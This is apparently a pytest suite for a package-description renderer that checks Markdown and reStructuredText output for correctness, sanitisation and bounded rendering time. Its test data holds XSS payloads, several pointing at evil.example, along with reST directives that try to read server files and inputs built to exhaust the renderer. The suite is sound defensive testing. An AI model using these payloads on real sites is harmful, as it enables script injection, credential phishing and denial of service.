"""Descriptions: what comes out is safe, readable, and done in bounded time."""

import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from packages import descriptions

MARKDOWN = "text/markdown"
RST = "text/x-rst"
PLAIN = '<pre class="plain-text">'
# Seconds of work that no text may take on a slow machine; an attack that gets by takes minutes.
PATIENCE = 60


def markdown(text: str) -> str:
    return descriptions.render(text, "text/markdown; charset=UTF-8; variant=GFM")


def rst(text: str) -> str:
    return descriptions.render(text, RST)


class Reader(HTMLParser):
    """Collects every tag and attribute, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


# What authors may rely on


def test_markdown_becomes_html():
    html = markdown("Some *emphasis*, `code` and ~~mistakes~~.")
    assert "<p>Some <em>emphasis</em>, <code>code</code> and <del>mistakes</del>.</p>" in html


def test_headings_start_below_the_page_s_own():
    assert markdown("# One\n\n###### Six") == (
        '<h2 id="user-content-one">One</h2>\n<h6 id="user-content-six">Six</h6>'
    )


def test_a_table_of_contents_written_for_github_still_works():
    html = markdown(
        "[go](#how-it-works--and-why)\n\n## How it works & why\n\n## How it works & why"
    )
    assert 'href="#user-content-how-it-works--and-why"' in html
    assert 'id="user-content-how-it-works--why"' in html
    assert 'id="user-content-how-it-works--why-1"' in html


def test_a_list_may_follow_a_paragraph_at_once():
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in markdown("Features:\n- one\n- two")


def test_a_dash_within_fenced_code_starts_no_list():
    assert "<li>" not in markdown("```\ntext\n- dash\n```")


def test_tasks_show_whether_they_are_done():
    html = markdown("- [x] done\n- [ ] to do")
    assert "<li>☑ done</li>" in html
    assert "<li>☐ to do</li>" in html


def test_a_bare_address_becomes_a_link_but_not_in_code():
    html = markdown("See https://example.org/a?b=1. `https://example.org/code`")
    assert re.findall('href="([^"]+)"', html) == ["https://example.org/a?b=1"]


def test_columns_keep_their_alignment_without_styles():
    html = markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<td align="right">2</td>' in html


def test_the_keyboard_reaches_what_scrolls():
    html = markdown("| a |\n|---|\n| 1 |\n\n    code")
    assert '<div class="table-scroll" tabindex="0"><table>' in html
    assert '<pre tabindex="0"><code>code' in html


@pytest.mark.parametrize(
    "text",
    ["```python\nreturn 1\n```", "~~~py\nreturn 1\n~~~"],
)
def test_fenced_code_is_coloured_by_classes(text):
    assert '<code class="code"><span class="k">return</span>' in markdown(text)


def test_coloured_code_says_what_was_written():
    html = markdown('```python\nx = "<b>&amp;</b>" < y\n```')
    words = html_parser_text(html)
    assert words.strip() == 'x = "<b>&amp;</b>" < y'
    assert "<b>" not in html


def html_parser_text(html: str) -> str:
    words: list[str] = []
    parser = HTMLParser()
    parser.handle_data = words.append  # type: ignore[assignment, method-assign]
    parser.feed(html)
    return "".join(words)


def test_a_cell_may_span_columns_within_reason():
    table = "<table><tr><td colspan={}>x</td></tr></table>"
    assert 'colspan="2"' in markdown(table.format("2"))
    assert "colspan" not in markdown(table.format("99999"))


def test_code_of_an_unknown_language_stays_as_it_is():
    assert "<code>return 1\n</code>" in markdown("```klingon\nreturn 1\n```")


def test_only_the_first_blocks_of_very_much_code_are_coloured():
    html = markdown("```python\nreturn 1\n```\n\n" * 4)
    assert html.count('class="code"') == 4
    long = "y = 2\n" * 2_000
    html = markdown(f"```python\nreturn 1\n```\n\n```python\n{long}```\n")
    assert html.count('class="code"') == 1


def test_restructuredtext_becomes_html():
    html = rst(
        "Title\n=====\n\nSome ``code``.\n\n.. note:: Mind it.\n\n.. code:: python\n\n   return 1\n"
    )
    assert "<h2>Title</h2>" in html
    assert "<code>code</code>" in html
    assert '<div class="admonition note">' in html
    assert '<span class="k">return</span>' in html


def test_restructuredtext_with_errors_is_shown_as_text_with_nothing_lost():
    text = "Use :class:`Gate`.\n\n.. automodule:: gate"
    assert rst(text) == f"{PLAIN}{text}</pre>"


def test_plain_text_is_shown_as_it_stands():
    html = descriptions.render("a <b> & *c*\n  d", "text/plain; charset=UTF-8")
    assert html == f"{PLAIN}a &lt;b&gt; &amp; *c*\n  d</pre>"


def test_an_unknown_type_is_shown_as_plain_text():
    assert descriptions.render("# a", "application/msword") == f"{PLAIN}# a</pre>"


@pytest.mark.parametrize("missing", [None, ""])
def test_a_missing_type_means_restructuredtext_when_that_is_without_fault(missing):
    assert "<strong>bold</strong>" in descriptions.render("**bold**", missing)
    assert descriptions.render("A title\n====\n\nfoo", missing).startswith(PLAIN)


def test_no_text_makes_no_trouble():
    assert markdown("") == ""
    assert rst("") == ""


# What strangers may not do


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "<p style='position:fixed'>x</p>",
        "<style>body{display:none}</style>",
        "<iframe src=https://evil.example></iframe>",
        "<form action=https://evil.example><input name=password></form>",
        "<svg onload=alert(1)><use href=#x></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example>",
        "<scr<script></script>ipt>alert(1)</script>",
        "<object data=x></object><embed src=x>",
        "<div class='masthead' id='main'>x</div>",
        "# <h1>big</h1>\n\n<h1>bigger</h1>",
    ],
)
@pytest.mark.parametrize("content_type", [MARKDOWN, RST, "text/plain", None])
def test_nothing_active_gets_through(attack, content_type):
    """TOB-PYPI-13."""
    assert_harmless(descriptions.render(attack, content_type))


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).seen:
        assert tag not in {"script", "style", "iframe", "form", "input", "svg", "object", "h1"}
        assert tag not in {"base", "meta", "link", "embed", "math"}
        assert not {name for name in attributes if name.startswith("on") or name == "style"}
        assert (attributes.get("id") or "user-content-").startswith("user-content-")
        assert attributes.get("class") != "masthead"
        assert re.match(
            r"https?://|mailto:|#user-content-", attributes.get("href") or "#user-content-"
        )
        assert re.match("https://", attributes.get("src") or "https://")


PIECES = r"""
    <a <b> <p> </p> <script> </script> <img src= onerror=x > javascript: [x]( ) " ' ` ``` # ~~
    <!-- --> <style> <table> <td> &lt; &#x3c; * _ |x| `x <http://x>`_ .. raw:: html <svg>
"""


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.sampled_from([*PIECES.split(), "\n", "\n\n"])),
    st.sampled_from([MARKDOWN, RST, None]),
)
def test_no_mixture_of_markup_is_harmful(pieces, content_type):
    """TOB-PYPI-15."""
    assert_harmless(descriptions.render(" ".join(pieces), content_type))


def test_the_words_of_a_script_are_not_shown():
    assert "alert" not in markdown("before\n\n<script>alert(1)</script>\n\nafter")
    assert "after" in markdown("before\n\n<script>alert(1)</script>\n\nafter")


def test_links_are_marked_as_strangers():
    assert 'rel="nofollow noopener ugc"' in markdown("[x](https://example.org)")
    assert 'rel="nofollow noopener ugc"' in rst("`x <https://example.org>`_")


@pytest.mark.parametrize(
    "target", ["docs/guide.md", "/admin/", "//evil.example", "ftp://x.example"]
)
def test_links_that_lead_nowhere_we_know_are_only_words(target):
    assert "href" not in markdown(f"[guide]({target})")
    assert "guide" in markdown(f"[guide]({target})")


def test_a_link_without_words_is_no_link():
    assert "href" not in markdown('<a href="https://example.org"></a>')


def test_pictures_come_late_and_their_hosts_learn_little():
    picture = dict(Reader(markdown("![A gate](https://example.org/gate.png)")).seen)["img"]
    assert picture == {
        "src": "https://example.org/gate.png",
        "alt": "A gate",
        "loading": "lazy",
        "referrerpolicy": "no-referrer",
    }


def test_a_picture_without_words_is_called_by_its_file():
    assert 'alt="gate.png"' in markdown("![](https://example.org/a/gate.png?x=1)")


@pytest.mark.parametrize("source", ["gate.png", "http://example.org/gate.png", "data:image/png;x"])
def test_a_picture_that_cannot_be_shown_is_replaced_by_its_words(source):
    html = markdown(f"![A gate]({source})")
    assert "<img" not in html
    assert "A gate" in html


@pytest.mark.parametrize(
    "directive",
    [
        ".. include:: {path}",
        ".. raw:: html\n   :file: {path}",
        ".. csv-table::\n   :file: {path}",
        ".. literalinclude:: {path}",
        ".. image:: {path}\n   :loading: embed",
        ".. image:: file://{path}\n   :loading: embed",
        ".. figure:: {path}\n   :loading: embed\n   :scale: 50\n\n   caption",
        ".. |x| image:: {path}\n   :loading: embed\n\n|x|",
    ],
)
def test_no_file_of_the_server_is_read(tmp_path: Path, directive):
    secret = tmp_path / "secret.svg"
    secret.write_text('<svg xmlns="http://www.w3.org/2000/svg"><text>hidden</text></svg>')
    assert "hidden" not in rst(directive.format(path=secret))


# What strangers may not cost

NESTED_SUBSTITUTIONS = (
    "|a0|\n\n"
    + "".join(f".. |a{n}| replace:: |a{n + 1}| |a{n + 1}|\n" for n in range(30))
    + ".. |a30| replace:: x\n"
)


def lines(text: str) -> str:
    """Break text into lines that are not too long by themselves."""
    return re.sub(r"(.{9000})", r"\1\n", text)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("[" * 9_000, id="brackets"),
        pytest.param(lines("![" * 100_000), id="pictures"),
        pytest.param(lines("[a](" * 50_000), id="links"),
        pytest.param(lines("<a " * 60_000), id="tags never closed"),
        pytest.param("~~~~ a\n" * 30_000, id="fences never closed"),
        pytest.param("```\n```\n" * 30_000, id="fences"),
        pytest.param("a\n=\n" * 50_000, id="headings"),
        pytest.param("1. a\n\n    " * 24_000, id="items"),
        pytest.param(lines("\\" * 200_000), id="escapes"),
        pytest.param(lines(">" * 200_000), id="quotations"),
        pytest.param(lines("<b><p></b>" * 20_000), id="misnested"),
        pytest.param(lines("".join(f"<b id=x{n}><p>" for n in range(15_000))), id="reopened"),
        pytest.param("<div>\n" * 40_000, id="deep"),
        pytest.param("```java\n" + lines("a " * 100_000) + "\n```", id="code"),
        pytest.param("x" * 300_000, id="long line"),
        pytest.param("word\n\n" * 100_000, id="long text"),
    ],
)
def test_hostile_markdown_is_done_with_in_time(text):
    began = time.process_time()
    assert markdown(text)
    assert time.process_time() - began < PATIENCE


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(NESTED_SUBSTITUTIONS, id="substitutions"),
        pytest.param(lines("*a " * 80_000), id="emphasis"),
        pytest.param(lines("`a " * 80_000), id="roles"),
        pytest.param(lines("|a " * 80_000), id="references"),
        pytest.param("- a\n" * 60_000, id="items"),
        pytest.param("h\n====\n\n" * 30_000, id="headings"),
        pytest.param("- " * 4_000 + "a", id="deep"),
        pytest.param("\n".join(["+-" * 240 + "+", "|a" * 240 + "|"] * 240), id="cells"),
    ],
)
def test_hostile_restructuredtext_is_done_with_in_time(text):
    began = time.process_time()
    assert rst(text)
    assert time.process_time() - began < PATIENCE


def test_substitutions_within_substitutions_are_refused():
    assert rst(NESTED_SUBSTITUTIONS).startswith(PLAIN)
    assert rst("|a|\n\n.. |a| replace:: gate\n") == "<p>gate</p>\n"


def test_a_long_honest_description_is_rendered():
    section = (
        "## 1.2.3 (2026-01-01)\n\n" + "- Mended [#12](https://example.org/12), `x` and `y`.\n" * 20
    )
    html = markdown(section * 150)
    assert html.count("<h3") == 150
    assert html.count("<li>") == 3_000


def test_a_long_honest_restructuredtext_is_rendered():
    section = (
        "1.2.3\n-----\n\n" + "- Mended `#12 <https://example.org/12>`__, ``x`` and ``y``.\n" * 20
    )
    assert rst("History\n=======\n\n" + section * 50).count("<li>") == 1_000
